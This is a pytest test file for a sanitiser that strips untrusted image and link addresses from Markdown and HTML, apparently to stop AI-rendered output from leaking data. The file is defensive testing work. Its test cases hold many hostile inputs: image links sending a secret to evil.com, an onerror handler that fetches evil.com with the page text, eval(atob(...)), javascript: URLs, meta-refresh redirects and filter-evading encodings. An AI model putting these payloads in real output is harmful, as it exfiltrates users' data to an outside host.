"""Images and addresses that nobody trusted named are taken out, however they are written."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from genaiops.guard import addresses_shown, hosts_in, without_addresses

NAMED = hosts_in(["see https://docs.example.com/start, or github.com; mail bob@corp.example"])


@pytest.mark.proves("E-STRUCTURE-ADDRESS")
@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![a chart](https://evil.com/c.png?d=1)", "a chart"),
        ("![a]( <https&#58;//evil.com/x> 'T')", "a"),
        ("[here](//evil.com/a) it is", "here it is"),
        ("![x](https:\\\\evil.com/a)", "x"),
        ("![x](http:evil.com/a)", "x"),
        ("[x](javascript:alert(1))", "x"),
        ("see https://evil.com/x?d=1.", "see [address removed]"),
        ("see www.evil.com/x", "see [address removed]"),
        ("<https://evil.com/d>", ""),
        ('a <img src="http://evil.com/x"> b', "a  b"),
        ("a <b style='background:url(//evil.com)'>b</b>", "a b</b>"),
        ("![a][r]\n\n[r]: https://evil.com/x 'T'", "![a][r]\n\n"),
        ("![a](https://docs.example.com.evil.com/x)", "a"),
        ("![a](https://docs.example.com@evil.com/x)", "a"),
        ("![a](![b](https://evil.com/1)", "![a](![b]([address removed])"),
    ],
)
def test_an_address_from_outside_is_taken_out_and_words_stay(text: str, left: str) -> None:
    bare, taken = without_addresses(text, [], NAMED)
    assert bare == left
    assert taken >= 1


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://docs.example.com/c.png) and https://www.github.com/x",
        "[there](/rel#part), ![i](img.png), mailto:bob@corp.example, <b>bold</b>",
        "a < b && c > d, 5//2, and/or, C:\\\\x, 10:30, a & b",
        "[write](mailto:bob@corp.example)",
        "<meta charset='utf-8'> <meta name=viewport content='width=device-width'>",
        "if x <y and once = 1: <b title='on time'>",
        "a &amp; b &lt;i&gt; &#47;&#47; x[0]: // y = 5 // 2, d = {'a': b:c} <i>i</i>",
    ],
)
def test_named_hosts_places_within_the_page_and_plain_signs_stay(text: str) -> None:
    assert without_addresses(text, [], NAMED) == (text, 0)


def test_hosts_of_the_policy_count_with_their_sub_domains() -> None:
    text = "![a](https://cdn.example.org/x) ![b](https://notexample.org/x)"
    assert without_addresses(text, ["example.org"], frozenset())[0] == "![a](https://cdn.example.org/x) b"
    assert without_addresses(text, ["*"], frozenset()) == (text, 0)


PIECES = st.sampled_from(
    (
        *("![", "[", "]", "](", "(", ")", "<", ">", "![a](", "[r]: ", "![a][r]", "https://evil.com/"),
        *("//evil.com/x", "https&#58;//evil.com/", "&#x68;ttps://evil.com", "http:evil.com", "www.evil.com"),
        *("javascript:alert(1)", "\\", '"', "'", " ", "\n", "text ", "<img src=", "<a href='", "`", "> "),
        *(
            "- ",
            "\t",
            "<!--",
            "-->",
            "?q=1",
            "&#47;",
            "&amp;",
            "#47;",
            "\\]",
            "\\:",
            "https",
            "a=",
            'alt=">" ',
        ),
    )
)


class Page(HTMLParser):
    """What a browser asks for or links to in a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.asked: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("src", "href") and value:
                self.asked.append(value)
            if name == "srcdoc" and value:
                self.asked += Page(value).asked


def rendered(text: str) -> list[str]:
    """Return every address of a page that a renderer makes of Markdown, as a browser reads it."""
    asked = Page(MarkdownIt("commonmark", {"html": True}).render(text)).asked
    return [re.sub(r"[\t\r\n]", "", one).strip("\x01 ").replace("\\", "/").lower() for one in asked]


HIDDEN = "&#47;&#47;evil.com/x?d=SECRET"
ODD = (
    f"![a\\]b]({HIDDEN})",
    f"![a[b[c]]]({HIDDEN})",
    f"![`]`]({HIDDEN})",
    f"[a\\]b]: {HIDDEN}\n\n![a\\]b]",
    f"> [r]:\n> {HIDDEN}\n\n![r]",
    f'<img alt=">" src="{HIDDEN}">',
    f'<iframe srcdoc="&lt;img src={HIDDEN}&gt;">',
    f'<img alt="{"x" * 5_000}" src="{HIDDEN}">',
    '<img alt=">" src="/\t/evil.com/x">',
    '<img alt=">" src="/&Tab;/evil.com/x">',
    '<img alt=">" src="\x01//evil.com/x">',
    '<img alt=">" src=&#47;&#47;evil/x>',
    "![a\\]b](&amp;#47;&#38;#47;evil.com) ![a\\]b](https\\://evil.com/x)",
    "![a\\]b](//3232235777/x)",
    "[x](https://docs.example.com\\)@evil.com/x)",
)


@pytest.mark.proves("E-STRUCTURE-ADDRESS")
@pytest.mark.parametrize("text", ODD)
def test_a_form_that_no_pattern_knows_hides_no_address(text: str) -> None:
    assert rendered(text), "the renderer asks for something, so that there is something to take"
    bare, taken = without_addresses(text, [], NAMED)
    assert taken >= 1
    assert not [one for one in rendered(bare) if re.match(r"[a-z]+:|//", one)]
    assert "SECRET" not in bare


@pytest.mark.proves("E-STRUCTURE-ADDRESS")
@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("_https://evil.com/?d=SECRET_", "_[address removed]"),
        ("_www.evil.com/x_", "_[address removed]"),
        ("_//evil.com/x_", "_[address removed]"),
        ("//user@a_b.evil.com/x", "[address removed]"),
        ("<a href='<style>b</style>", "<a href='b"),
        ("1https://evil.com/x", "1[address removed]"),
        (f'a <meta http-equiv=refresh content="0;url={HIDDEN}"> b', "a  b"),
        ('<style>@import "\\2f\\2f evil.com/x"</style>', '@import "\\2f\\2f evil.com/x"'),
        ('a <base href="//evil.com"> b', "a  b"),
        ("a <img src=x onerror=\"fetch('htt'+'ps:/'+'/evil.com/?'+document.body.innerText)\"> b", "a  b"),
        ("a <svg/onload=eval(atob('aHR0'))> b", "a  b"),
        ('a <img alt=">" src="x"OnLoad\n=x()> b', "a  b"),
        ("a <script>open('x')</script> b", "a open('x') b"),
        ("<svg><animate attributeName=href values=javascript:x /><set to=javascript:x></svg>", "<svg></svg>"),
        ("a <a href=/x ping=https:evil.com>x</a>", "a x</a>"),
        ("&lt;script&gt; ![]b](&#47;&#47;evil.com)", "&lt;script&gt; ![]b]([address removed])"),
    ],
)
def test_what_loads_or_links_without_a_link_goes_and_nothing_comes_alive(text: str, left: str) -> None:
    assert without_addresses(text, [], NAMED)[0] == left


def test_a_number_too_long_for_a_sign_is_no_failure() -> None:
    text = f"![a](&#{'1' * 6_000}; x)"
    assert without_addresses(text, [], NAMED) == (text, 0)


@pytest.mark.proves("E-REDTEAM-JUDGED")
def test_an_address_is_shown_where_a_renderer_loads_or_links_it_and_not_where_it_is_named() -> None:
    assert addresses_shown("![a](https:/evil.com) <b title=x>") == {"https:/evil.com"}
    acting = '<img src="https://evil.com/x" onerror=f()>'
    assert addresses_shown(acting) == {"https://evil.com/x"}
    assert addresses_shown("see https://evil.com/x, [there](/here)") == frozenset()


@pytest.mark.proves("E-STRUCTURE-ADDRESS")
@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(PIECES, max_size=14))
def test_what_a_renderer_reads_afterwards_leads_nowhere(pieces: list[str]) -> None:
    bare, _ = without_addresses("".join(pieces), [], frozenset())
    assert [one for one in rendered(bare) if re.match(r"[a-z]+:|//", one)] == []
    assert without_addresses(bare, [], frozenset()) == (bare, 0)


SLOW = [
    '<a b="',
    "<a b='c=\"",
    "= ",
    "&amp;",
    "&#38;",
    "](/",
    "]: ",
    "a=h",
    "\\",
    "&#0",
    "<style",
    "h\t",
    "<b style=",
    "<b style",
    "<b onxx ",
    "<b " + "on" * 12 + " ",
    " onxxxx",
    "<meta ",
]


@pytest.mark.parametrize(
    "piece", ["![", "[a", "[a](", "<a ", "a.", "![a[b]", "[r]: ", "//a.", "<!--", "[[", *SLOW]
)
def test_a_text_made_to_be_slow_is_not(piece: str) -> None:
    text = (piece * 200_000)[:200_000] + " //"
    began = time.process_time()
    without_addresses(text, [], frozenset())
    assert time.process_time() - began < 3
